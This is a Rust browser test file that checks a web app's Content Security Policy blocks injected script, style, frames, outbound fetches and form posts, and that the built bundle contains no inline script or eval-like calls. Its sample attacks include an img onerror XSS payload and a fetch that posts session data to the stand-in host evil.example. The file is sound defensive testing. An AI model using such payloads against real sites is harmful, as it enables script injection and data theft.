//! The policy that every other scenario runs under: what it stops, that a scenario hears of it, and that the bundle
//! asks for nothing it would stop.

use canopy_e2e::*;
use serde_json::json;

/// What harm would try first, and the directive that stops it.
const TRIES: [(&str, &str); 9] = [
    (
        "script-src",
        "const script = document.createElement('script');
         script.textContent = 'window.ran = true';
         document.body.append(script)",
    ),
    (
        "script-src",
        "const script = document.createElement('script');
         script.src = 'https://evil.example/a.js';
         document.body.append(script)",
    ),
    (
        "script-src",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">')",
    ),
    ("script-src", "setTimeout(() => { try { window.eval('window.ran = true') } catch {} })"),
    (
        "style-src",
        "const style = document.createElement('style');
         style.textContent = 'body { background: red }';
         document.body.append(style)",
    ),
    (
        "style-src",
        "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">red</p>')",
    ),
    (
        "connect-src",
        "fetch('https://evil.example/', { method: 'POST', body: sessionStorage.length }).catch(() => {})",
    ),
    (
        "frame-src",
        "const frame = document.createElement('iframe');
         frame.src = 'https://evil.example/';
         document.body.append(frame)",
    ),
    (
        "form-action",
        "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://evil.example/\"></form>');
         try { document.forms[document.forms.length - 1].submit() } catch {}",
    ),
];

#[tokio::test]
async fn what_the_policy_stops_is_reported_and_would_fail_a_scenario() {
    in_a_browser(async |person| {
        person.signs_in_as("owner").await;
        assert_eq!(person.unexpected_violations().await, Vec::<String>::new());
        for (directive, attempt) in TRIES {
            person.page_answers(attempt, vec![]).await;
            let told = person
                .waits_until(&format!("the policy stops {attempt}"), async || {
                    let told = person.unexpected_violations().await;
                    if told.is_empty() {
                        Err("nothing is reported".to_owned())
                    } else {
                        Ok(told)
                    }
                })
                .await;
            assert!(
                told[0].contains(&format!("policy's {directive}")),
                "{attempt}: {told:?}"
            );
        }
        let ran = person
            .page_answers("return window.ran ?? null", vec![])
            .await;
        assert_eq!(ran, json!(null));
        // Chromium says the same on its console, where it fails a scenario as well; the others' cannot be read.
        let said = person.unexpected_complaints().await;
        assert!(Engine::chosen() != Engine::Chromium || !said.is_empty());
        person.expects_complaint("Content Security Policy");
        person.expects_complaint("the policy's");
        // One of them asks for a picture that is not there.
        person.expects_failing_calls();
    })
    .await;
}

#[test]
fn no_page_of_the_bundle_has_script_or_style_written_into_it() {
    let mut pages = 0;
    for (name, page) in texts("html") {
        let page = without_comments(&page);
        for inline in ["<style", " style=", "javascript:", "http-equiv"] {
            assert!(!page.contains(inline), "{name} has {inline}");
        }
        for tag in page.split('<').skip(1) {
            let tag = tag.split('>').next().unwrap_or_default();
            let attributes = tag.split_whitespace().skip(1);
            for attribute in attributes {
                assert!(!attribute.starts_with("on"), "{name}: <{tag}>");
            }
        }
        for script in page.split("<script").skip(1) {
            let (tag, rest) = script.split_once('>').expect("a tag ends");
            assert!(
                tag.contains("src=") && rest.starts_with("</script>"),
                "{name}: {tag}"
            );
        }
        pages += 1;
    }
    assert!(pages > 0, "the bundle has no page");
}

#[test]
fn no_script_of_the_bundle_makes_script_of_a_text_or_markup_of_anything() {
    let mut scripts = 0;
    for (name, script) in texts("js") {
        for danger in [
            "eval(",
            "new Function",
            "insertAdjacentHTML",
            "document.write",
            "importScripts",
            "setTimeout('",
            "setTimeout(\"",
        ] {
            assert!(!script.contains(danger), "{name} has {danger}");
        }
        scripts += 1;
    }
    assert!(scripts > 1, "the bundle has no program");
}

fn without_comments(page: &str) -> String {
    let (first, rest) = page.split_once("<!--").unwrap_or((page, ""));
    let rest = rest.split("<!--").filter_map(|part| part.split_once("-->"));
    rest.fold(first.to_owned(), |page, (_comment, after)| page + after)
}

/// Every file of the bundle with this ending, and what it holds.
fn texts(ending: &str) -> Vec<(String, String)> {
    let files = std::fs::read_dir(bundle()).expect("the bundle is built");
    files
        .map(|file| file.expect("the bundle is readable").path())
        .filter(|path| path.extension().is_some_and(|is| is == ending))
        .map(|path| {
            let text = std::fs::read_to_string(&path).expect("it is text");
            (path.display().to_string(), text)
        })
        .collect()
}
